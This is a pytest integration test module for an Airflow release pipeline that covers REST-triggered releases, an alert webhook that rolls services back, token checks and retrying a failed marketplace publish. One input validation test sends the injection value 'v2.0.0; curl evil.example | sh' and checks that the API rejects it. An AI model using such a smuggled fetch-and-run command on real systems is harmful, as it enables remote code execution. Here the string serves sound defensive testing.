"""CI's path: `airflow standalone` (api-server, scheduler, LocalExecutor, triggerer) and the REST API.

Unlike `dags test`, the health waits here run in a real triggerer process and each task in its
own worker process, as they do in production.
"""

from __future__ import annotations

import json
import os
import secrets
import signal
import time
from pathlib import Path

import pytest

from tests.support import local_airflow
from tests.support.airflow_cluster import AirflowApi, api_call, login
from tests.support.stack import gateway_versions
from varai_deploy.config import VERSION_PATTERN
from varai_deploy.run_requests import PATTERN_WORDS
from varai_deploy.services import SERVICE_NAMES

pytestmark = pytest.mark.integration

API_PORT = 19880
API = f"http://127.0.0.1:{API_PORT}"
WEBHOOK_TOKEN = secrets.token_hex(16)


def call(
    method: str, path: str, token: str | None = None, body: dict | None = None, auth: str | None = None
) -> tuple[int, dict]:
    return api_call(API, method, path, token=token, body=body, auth=auth)


@pytest.fixture(scope="module")
def airflow_api(stack, sandbox):
    webhook = {"AIRFLOW_CONN_VARAI_ALERT_WEBHOOK": json.dumps({"conn_type": "generic", "password": WEBHOOK_TOKEN})}
    with local_airflow.running(Path(stack["VARAI_AIRFLOW_HOME"]), API_PORT, webhook) as password:  # make airflow
        yield login(API, password)


def wait_for_dag(token: str) -> None:
    AirflowApi(API, token).wait_for_dag("ai_discovery_release", timeout=90)


def release_runs(token: str) -> int:
    return call("GET", "/api/v2/dags/ai_discovery_release/dagRuns", token)[1]["total_entries"]


def test_bad_params_are_refused_with_400_and_no_run(airflow_api):
    wait_for_dag(airflow_api)
    before = release_runs(airflow_api)
    status, body = call(
        "POST",
        "/api/v2/dags/ai_discovery_release/dagRuns",
        airflow_api,
        {"logical_date": None, "conf": {"version": "v2.0.0; curl evil.example | sh"}},
    )
    assert status == 400
    assert body["detail"].startswith("Invalid input for param version: 'v2.0.0; curl evil.example | sh' is not")
    # Said in words, as the form's error toast shows it: not jsonschema's regex and schema dump.
    status, body = call(
        "POST",
        "/api/v2/dags/ai_discovery_release/dagRuns",
        airflow_api,
        {"logical_date": None, "conf": {"version": "1.0"}},
    )
    assert (status, body["detail"]) == (
        400,
        f"Invalid input for param version: '1.0' is not {PATTERN_WORDS[VERSION_PATTERN]}",
    )
    assert release_runs(airflow_api) == before


def test_a_release_triggered_through_the_rest_api_goes_live(airflow_api):
    wait_for_dag(airflow_api)
    status, run = call(
        "POST",
        "/api/v2/dags/ai_discovery_release/dagRuns",
        airflow_api,
        # Named as the README's example names it, so the runs list tells releases apart.
        {
            "dag_run_id": f"release__v1.2.0__sandbox__{time.strftime('%Y%m%dT%H%M%S')}",
            "logical_date": None,
            "conf": {"version": "v1.2.0", "environment": "sandbox"},
        },
    )
    assert status == 200, run
    assert run["dag_run_id"].startswith("release__v1.2.0__sandbox__"), run
    path = f"/api/v2/dags/ai_discovery_release/dagRuns/{run['dag_run_id']}"
    assert wait_for_run(airflow_api, "ai_discovery_release", run["dag_run_id"], timeout=240) == "success"
    assert {name: answer[1] for name, answer in gateway_versions().items()} == dict.fromkeys(SERVICE_NAMES, "v1.2.0")
    tis = call("GET", f"{path}/taskInstances?limit=100", airflow_api)[1]["task_instances"]
    waits = [ti for ti in tis if ti["task_id"] == "backend.candidates.wait_healthy"]
    assert len(waits) == len(SERVICE_NAMES) and all(ti["state"] == "success" for ti in waits)


def wait_for_run(token: str, dag_id: str, run_id: str, timeout: float = 240) -> str:
    return AirflowApi(API, token).wait_for_run(dag_id, run_id, timeout=timeout)


@pytest.fixture(scope="module", autouse=True)
def live_platform(airflow_api) -> None:
    """Every service serving before this module's tests, whatever ran before (post-deploy checks go
    through all five, and the alert test rolls analytics back to what served before it): a
    backend-only release of v1.1.90 if not."""
    if all(status == 200 for status, _, _ in gateway_versions().values()):
        return
    conf = {"version": "v1.1.90", "marketplaces": []}
    status, run = call(
        "POST", "/api/v2/dags/ai_discovery_release/dagRuns", airflow_api, {"logical_date": None, "conf": conf}
    )
    assert status == 200, run
    assert wait_for_run(airflow_api, "ai_discovery_release", run["dag_run_id"]) == "success"


ALERT = {
    "version": "4",
    "status": "firing",
    "groupKey": '{}:{alertname="HighErrorRate"}',
    "commonLabels": {"alertname": "HighErrorRate", "environment": "sandbox"},
    "alerts": [
        {
            "status": "firing",
            "labels": {"alertname": "HighErrorRate", "environment": "sandbox", "service": "analytics"},
            "annotations": {"summary": "error rate 7% for 5m"},
            "startsAt": "2026-11-29T02:00:00Z",
        }
    ],
}


def rollback_runs(token: str) -> int:
    return call("GET", "/api/v2/dags/ai_discovery_rollback/dagRuns", token)[1].get("total_entries", 0)


@pytest.mark.parametrize(
    "auth",
    [None, "Bearer wrong-token", f"Basic {WEBHOOK_TOKEN}", "Bearer "],
    ids=["no-header", "wrong-token", "right-token-as-basic", "empty-bearer"],  # the same on every xdist worker
)
def test_the_alert_webhook_refuses_a_bad_token_and_starts_nothing(airflow_api, auth):
    before = rollback_runs(airflow_api)
    status, body = call("POST", "/varai/alerts", body=ALERT, auth=auth or "")
    assert status == 401, body
    assert rollback_runs(airflow_api) == before


def test_a_firing_alert_rolls_the_labelled_service_back(airflow_api, sandbox):
    status, run = call(
        "POST",
        "/api/v2/dags/ai_discovery_release/dagRuns",
        airflow_api,
        {"logical_date": None, "conf": {"version": "v1.2.1", "services": ["analytics"], "marketplaces": []}},
    )
    assert status == 200, run
    # Given no id, the run is named by what it does, and its note (the run's header) says so.
    assert run["dag_run_id"].startswith("release__v1.2.1__sandbox__"), run
    assert run["note"] == "Release v1.2.1 to sandbox: analytics, backend only (no widgets)"
    assert wait_for_run(airflow_api, "ai_discovery_release", run["dag_run_id"]) == "success"
    slots = sandbox.status()["services"]["analytics"]
    previous, live = slots["idle"], slots["live"]["version"]
    assert previous["state"] == "retired"
    status, body = call("POST", "/varai/alerts", body=ALERT, auth=f"Bearer {WEBHOOK_TOKEN}")
    assert status == 200, body
    assert body["status"] == "triggered"
    assert body["conf"]["services"] == ["analytics"]
    assert body["conf"]["reason"].startswith("alertmanager: HighErrorRate [environment=sandbox, service=analytics]")
    # Alertmanager re-sends while the alert fires: no second rollback.
    again = call("POST", "/varai/alerts", body=ALERT, auth=f"Bearer {WEBHOOK_TOKEN}")[1]
    assert again == {"status": "already_triggered", "dag_run_id": body["dag_run_id"]}
    assert wait_for_run(airflow_api, "ai_discovery_rollback", body["dag_run_id"]) == "success"
    assert gateway_versions()["analytics"][1] == previous["version"] != live
    run = call("GET", f"/api/v2/dags/ai_discovery_rollback/dagRuns/{body['dag_run_id']}", airflow_api)[1]
    assert run["triggering_user_name"] == "alertmanager"


def test_a_resolved_alert_is_ignored(airflow_api):
    resolved = {**ALERT, "status": "resolved", "alerts": [{**ALERT["alerts"][0], "status": "resolved"}]}
    status, body = call("POST", "/varai/alerts", body=resolved, auth=f"Bearer {WEBHOOK_TOKEN}")
    assert (status, body["status"]) == (200, "ignored")


def task_instances(token: str, run_id: str) -> dict[tuple[str, int], dict]:
    return AirflowApi(API, token).task_instances("ai_discovery_release", run_id)


def test_a_failed_marketplace_is_retried_alone_by_clearing_its_task(airflow_api, sandbox):
    """The npm registry is down: html fails, woocommerce goes live; once npm is back, clearing html's
    failed task (as an operator does in the UI) republishes html only and the run ends successful."""
    record = sandbox.store.read()["components"]["npm_registry"]
    os.kill(record["pid"], signal.SIGTERM)
    try:
        conf = {"version": "v1.2.2", "services": ["analytics"], "marketplaces": ["html", "woocommerce"]}
        status, run = call(
            "POST", "/api/v2/dags/ai_discovery_release/dagRuns", airflow_api, {"logical_date": None, "conf": conf}
        )
        assert status == 200, run
        run_id = run["dag_run_id"]
        assert wait_for_run(airflow_api, "ai_discovery_release", run_id, timeout=300) == "failed"
    finally:
        sandbox.up()  # brings the registry back
    tis = task_instances(airflow_api, run_id)
    publish = "widgets.marketplace.publish"
    assert tis[(publish, 0)]["rendered_map_index"] == "html"
    assert tis[(publish, 0)]["state"] == "failed"
    assert tis[("widgets.marketplace.verify", 1)]["state"] == "success"  # woocommerce is live
    assert tis[("widgets.summary", -1)]["state"] == "failed"
    # The backend release stands: analytics serves v1.2.2.
    assert gateway_versions()["analytics"][1] == "v1.2.2"
    woocommerce_tries = tis[(publish, 1)]["try_number"]

    status, cleared = call(
        "POST",
        "/api/v2/dags/ai_discovery_release/clearTaskInstances",
        airflow_api,
        {
            "dag_run_id": run_id,
            "task_ids": [[publish, 0]],
            "include_downstream": True,
            "only_failed": False,
            "dry_run": False,
        },
    )
    assert status == 200, cleared
    assert wait_for_run(airflow_api, "ai_discovery_release", run_id, timeout=300) == "success"
    tis = task_instances(airflow_api, run_id)
    assert tis[(publish, 0)]["state"] == "success"
    assert tis[(publish, 1)]["try_number"] == woocommerce_tries  # woocommerce was not published again
    assert tis[("widgets.summary", -1)]["state"] == "success"
